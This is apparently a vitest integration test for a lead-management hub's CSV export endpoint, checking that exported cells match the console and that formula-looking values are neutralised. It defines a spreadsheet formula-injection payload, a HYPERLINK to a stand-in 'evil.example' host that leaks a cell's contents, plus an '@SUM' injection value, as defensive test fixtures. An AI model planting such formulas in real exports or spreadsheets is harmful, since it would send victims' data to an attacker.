import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { graphql } from './gql/console/index.js';
import { startTestHub, type TestHub } from './harness.js';

// A list downloaded as CSV from a real hub, as a signed-in owner's browser would (the console's
// "Download CSV" link carries only the session cookie), parsed back with a real CSV parser.

const OWNER_EMAIL = 'owner@exports.example';
const OWNER_PASSWORD = 'exports owner password';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")';

const SUBMIT_LEAD = graphql(`
  mutation SubmitExportedLead($input: SubmitLeadInput!) {
    submitLead(input: $input) {
      id
    }
  }
`);
const LEADS = graphql(`
  query ExportedLeads {
    leads(first: 500) {
      name
      email
      company
      score
      tier
      stage
    }
  }
`);

let t: TestHub;
let cookie: string;

beforeAll(async () => {
  t = await startTestHub({ HUB_ADMIN_EMAIL: OWNER_EMAIL, HUB_ADMIN_PASSWORD: OWNER_PASSWORD });
  for (const input of [
    { name: FORMULA, email: 'mallory@example.com', company: '@SUM(A1:A9)' },
    { name: 'Zoë Ångström, "the potter"', email: 'zoe@example.com', company: 'Søn & Døtre' },
  ]) {
    await t.client.request(SUBMIT_LEAD, { input: { ...input, consent: true, pagesViewed: 3 } });
  }
  const signIn = await fetch(`${t.hub.url}/auth/sign-in`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: OWNER_EMAIL, password: OWNER_PASSWORD }),
  });
  expect(signIn.status).toBe(200);
  cookie = signIn.headers.get('set-cookie')?.split(';')[0] ?? '';
}, 120_000);

afterAll(() => t?.close());

/** What a spreadsheet shows for a text cell: OWASP's leading quote on formula-looking text. */
const shown = (value: string | null) =>
  value === null ? '' : /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;

describe('GET /exports/leads.csv over HTTP', () => {
  it('gives the signed-in owner the leads the console lists, cell for cell, formulas inert', async () => {
    const response = await fetch(`${t.hub.url}/exports/leads.csv`, { headers: { cookie } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const rows = parse(Buffer.from(await response.arrayBuffer()), {
      bom: true,
      columns: true,
    }) as Record<string, string>[];

    const { leads } = await t.client.request(LEADS, {});
    expect(leads.length).toBeGreaterThanOrEqual(3);
    expect(
      rows.map((r) => [r['name'], r['email'], r['company'], r['score'], r['tier'], r['stage']]),
    ).toEqual(
      leads.map((l) => [
        shown(l.name),
        l.email,
        shown(l.company),
        l.score === null ? '' : String(l.score),
        l.tier ?? '',
        l.stage,
      ]),
    );
    const mallory = rows.find((r) => r['email'] === 'mallory@example.com');
    expect(mallory?.['name']?.startsWith(`'=HYPERLINK(`)).toBe(true);
    expect(mallory?.['company']).toBe(`'@SUM(A1:A9)`);
    expect(rows.find((r) => r['email'] === 'zoe@example.com')?.['company']).toBe('Søn & Døtre');
  });

  it('refuses a request without the session cookie', async () => {
    const response = await fetch(`${t.hub.url}/exports/leads.csv`);
    expect(response.status).toBe(401);
  });
});
